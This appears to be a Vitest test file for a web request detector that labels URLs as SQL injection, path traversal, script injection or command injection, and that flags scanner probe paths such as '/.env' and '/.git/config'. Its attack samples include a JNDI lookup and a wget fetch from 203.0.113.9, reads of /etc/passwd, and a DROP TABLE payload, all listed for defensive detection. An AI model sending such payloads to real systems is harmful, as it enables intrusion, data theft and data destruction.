import { describe, expect, test } from 'vitest';
import { exploitIn, isProbe } from './request-rules.ts';

describe('an attack is read off the address', () => {
  test.each([
    ["/api/antivirus/scans?cursor=' OR '1'='1", 'sql_injection'],
    ['/api/antivirus/scans?cursor=%27%20or%201=1--', 'sql_injection'],
    ['/api/antivirus/scans?limit=1+or+7=7', 'sql_injection'],
    ['/?id=1%2520UNION%2520ALL%2520SELECT%2520password', 'sql_injection'],
    ['/?id=1/**/union/**/select/**/1', 'sql_injection'],
    ["/?id=1'; DROP TABLE users--", 'sql_injection'],
    ['/?id=1;select+pg_sleep(10)', 'sql_injection'],
    ["/?id=1';waitfor delay '0:0:5'", 'sql_injection'],
    ['/assets/../../etc/hosts', 'path_traversal'],
    ['/%2e%2e/%2e%2e/secret', 'path_traversal'],
    ['/?file=..%5c..%5cboot', 'path_traversal'],
    ['/?file=%252e%252e%252fkeys', 'path_traversal'],
    ['/?file=/etc/passwd', 'path_traversal'],
    ['/?q=<script>alert(1)</script>', 'script_injection'],
    ['/?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'script_injection'],
    ['/?q=$%7Bjndi:ldap://203.0.113.9/a}', 'command_injection'],
    ['/?host=a;cat%20/etc/hosts', 'command_injection'],
    ['/?host=a|wget http://203.0.113.9/x', 'command_injection'],
  ])('%s is %s', (url, name) => {
    expect(exploitIn(url)).toBe(name);
  });

  test.each([
    '/',
    '/antivirus?scan=01890a5d-ac96-774b-bcce-b302099a8057',
    '/?mode=reset-password',
    '/api/antivirus/scans?limit=200&cursor=01890a5d-ac96-774b-bcce-b302099a8057',
    '/api/premium/anti-hacking/stats?time_zone=America%2FArgentina%2FBuenos_Aires',
    '/?q=students+union+selected+a+speaker',
    '/?q=credit or debit',
    '/?q=2 and 3=5',
    "/?name=O'Neill and Sons",
    "/?q=it's like = that",
    '/?q=drop the table; then eat',
    '/?q=sleep(well)',
    '/docs/v1..v2/changes',
    '/?range=1..10',
    '/?q=...',
    '/?q=a < b and c > d',
    '/?q=script for the play',
    '/?price=$%7B5}',
    '/?q=cats;dogs',
    '/%E2%80%99quoted%E2%80%99',
    '/%',
    '/?q=%GG',
  ])('%s is none', (url) => {
    expect(exploitIn(url)).toBeUndefined();
  });
});

describe('a probe is known by its path', () => {
  test.each([
    '/wp-login.php',
    '/blog/wp-login.php?redirect=1',
    '/wp-admin/',
    '/.env',
    '/.env.production',
    '/api-old/.git/config',
    '/%2egit/HEAD',
    '/phpMyAdmin/index.php',
    '/cgi-bin/luci',
    '/actuator/health',
    '/manager/html',
    '/backup.zip',
    '/dump.sql',
    '/login.aspx',
  ])('%s', (url) => {
    expect(isProbe(url)).toBe(true);
  });

  test.each([
    '/',
    '/dashboard',
    '/admin/outbox',
    '/admin/setup',
    '/anti-hacking',
    '/live-chat',
    '/antivirus/01890a5d-ac96-774b-bcce-b302099a8057',
    '/no/such/page',
    '/.well-known/security.txt',
    '/.well-known',
    '/favicon.ico',
    '/robots.txt',
    '/?file=.env',
  ])('not %s', (url) => {
    expect(isProbe(url)).toBe(false);
  });
});
